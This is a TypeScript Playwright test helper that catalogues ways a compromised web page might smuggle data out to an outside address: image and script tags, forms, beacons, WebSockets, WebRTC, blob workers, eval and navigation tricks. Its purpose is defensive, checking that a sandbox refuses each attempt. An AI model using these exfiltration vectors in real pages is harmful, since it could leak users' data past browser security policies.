/// <reference lib="dom" />
// What a page that has gone over to the enemy would try to get word out. Each runs inside the page, by itself.
import type { Page } from '@playwright/test';

export interface Addresses {
  readonly url: string;
  readonly stun: string;
}

type Attributes = Readonly<Record<string, string>>;

/** Elements that reach out once they are in the page, or when they are clicked or sent. */
const elements: readonly (readonly [string, (url: string) => Attributes])[] = [
  ['img', (url) => ({ src: url })],
  ['img', (url) => ({ srcset: `${url} 2x` })],
  ['input', (url) => ({ type: 'image', src: url })],
  ['video', (url) => ({ src: url })],
  ['video', (url) => ({ poster: url })],
  ['audio', (url) => ({ src: url })],
  ['script', (url) => ({ src: url })],
  ['script', (url) => ({ src: url, type: 'module' })],
  ['iframe', (url) => ({ src: url })],
  ['iframe', (url) => ({ srcdoc: `<img src="${url}">` })],
  ['iframe', (url) => ({ src: `data:text/html,<img src="${url}">` })],
  ['iframe', (url) => ({ src: `javascript:fetch("${url}")` })],
  ['object', (url) => ({ data: url })],
  ['embed', (url) => ({ src: url })],
  ['link', (url) => ({ rel: 'stylesheet', href: url })],
  ['link', (url) => ({ rel: 'prefetch', href: url })],
  ['link', (url) => ({ rel: 'preload', as: 'image', href: url })],
  ['link', (url) => ({ rel: 'modulepreload', href: url })],
  ['meta', (url) => ({ 'http-equiv': 'refresh', content: `0;url=${url}` })],
  ['a', (url) => ({ href: url })],
  ['a', (url) => ({ href: url, target: '_blank' })],
  ['a', (url) => ({ href: url, target: '_top' })],
  ['a', (url) => ({ href: url, download: 'x' })],
  ['a', (url) => ({ href: '#', ping: url })],
  ['a', (url) => ({ href: `javascript:fetch("${url}")` })],
  ['form', (url) => ({ action: url })],
  ['form', (url) => ({ action: url, method: 'post', target: '_blank' })],
  ['button', (url) => ({ onclick: `fetch("${url}")` })],
];

function insert([tag, attributes]: readonly [string, Attributes]): void {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.body.append(element);
  if (element instanceof HTMLFormElement) element.submit();
  else element.click();
}

const calls: Readonly<Record<string, (to: Addresses) => unknown>> = {
  fetch: ({ url }) => fetch(url),
  'fetch that asks for no answer': ({ url }) => fetch(url, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  WebSocket: ({ url }) => void new WebSocket(url.replace('http', 'ws')),
  EventSource: ({ url }) => void new EventSource(url),
  sendBeacon: ({ url }) => navigator.sendBeacon(url, 'secret'),
  FontFace: ({ url }) => new FontFace('secret', `url(${url})`).load(),
  'a background': ({ url }) => void document.body.style.setProperty('background-image', `url(${url})`),
  'a worker from a blob': ({ url }) =>
    void new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`], { type: 'text/javascript' }))),
  'a frame from a blob': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(new Blob([`<img src="${url}">`], { type: 'text/html' }));
    document.body.append(frame);
  },
  'the realm of an empty frame': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(url);
  },
  innerHTML: ({ url }) => {
    document.body.innerHTML += `<img src="${url}">`;
  },
  insertAdjacentHTML: ({ url }) => document.body.insertAdjacentHTML('beforeend', `<img src="${url}">`),
  'document.write': ({ url }) => document.write(`<img src="${url}">`),
  'a fragment': ({ url }) => document.body.append(new Range().createContextualFragment(`<img src="${url}">`)),
  // biome-ignore lint/security/noGlobalEval: it is what has to be refused
  eval: ({ url }) => void setTimeout(() => eval(`fetch('${url}')`)),
  'code in a timer': ({ url }) => void setTimeout(`fetch('${url}')`),
  'code in a script': ({ url }) => {
    const script = document.createElement('script');
    script.textContent = `fetch('${url}')`;
    document.body.append(script);
  },
  'WebRTC over UDP': ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    connection.createDataChannel('secret');
    connection.setLocalDescription();
    return new Promise<void>((resolve) => {
      connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
    });
  },
  'WebRTC over TCP': ({ url }) => {
    const urls = `${url.replace('http://', 'turn:')}?transport=tcp`;
    const servers = [{ urls, username: 'secret', credential: 'secret' }];
    const connection = new RTCPeerConnection({ iceServers: servers });
    connection.createDataChannel('secret');
    connection.setLocalDescription();
  },
  'window.open': ({ url }) => void window.open(url),
  'window.open without an opener': ({ url }) => void window.open(url, '_blank', 'noopener,noreferrer,popup'),
  'window.open in its own place': ({ url }) => void window.open(url, '_self'),
  'window.open on top': ({ url }) => void window.open(url, '_top'),
  'location.href': ({ url }) => void Object.assign(location, { href: url }),
  'location.assign': ({ url }) => location.assign(url),
  'location.replace': ({ url }) => location.replace(url),
  'code as an address': ({ url }) => void Object.assign(location, { href: `javascript:fetch("${url}")` }),
};

export interface Escape {
  readonly name: string;
  /** Tries it. What the page refuses with an error is no failure of the test's. */
  attempt(page: Page, to: Addresses): Promise<void>;
}

export const escapes: readonly Escape[] = [
  ...elements.map(([tag, attributesFor]) => ({
    name: `<${tag}> with ${Object.entries(attributesFor('…')).join(' and ')}`,
    attempt: (page: Page, { url }: Addresses) =>
      tried(page.evaluate(insert, [tag, attributesFor(url)] as const)),
  })),
  ...Object.entries(calls).map(([name, call]) => ({
    name,
    attempt: (page: Page, to: Addresses) => tried(page.evaluate(call, to)),
  })),
];

async function tried(attempt: Promise<unknown>): Promise<void> {
  await attempt.catch(() => undefined);
}
